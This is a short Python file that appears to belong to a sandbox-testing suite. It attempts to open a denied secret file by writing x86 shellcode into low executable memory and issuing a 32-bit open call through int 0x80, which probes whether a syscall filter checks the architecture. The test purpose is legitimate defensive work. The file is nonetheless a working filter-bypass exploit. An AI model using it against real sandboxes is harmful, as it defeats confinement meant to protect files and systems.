"""Open a denied file through the 32-bit system call table, by int 0x80."""

import ctypes
import mmap
import os
import platform
import struct

from attack import SECRET, NotPossible, main
from race import address_of

MAP_32BIT, OPEN_OF_I386 = 0x40, 5
PROMISE = "another ABI's calls are refused"
CONTROL = "the file opens"
ADVICE = "report it: the filter looks at the architecture first"


def attempt() -> bool:
    if platform.machine() != "x86_64":
        raise NotPossible("only x86-64 has this door")
    low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT, prot=7)
    base = address_of(low)
    name = os.fsencode(SECRET) + b"\0"
    low[256 : 256 + len(name)] = name
    code = b"\x53\xb8" + struct.pack("=I", OPEN_OF_I386) + b"\xbb" + struct.pack("=I", base + 256)
    code += b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"  # xor ecx, edx; int 0x80; pop rbx; ret
    low[: len(code)] = code
    child = os.fork()
    if child == 0:
        os._exit(0 if ctypes.CFUNCTYPE(ctypes.c_int)(base)() >= 0 else 1)
    status = os.waitpid(child, 0)[1]
    if os.WIFSIGNALED(status):
        raise NotPossible("this kernel has no 32-bit calls")
    return os.WEXITSTATUS(status) == 0


main(attempt)
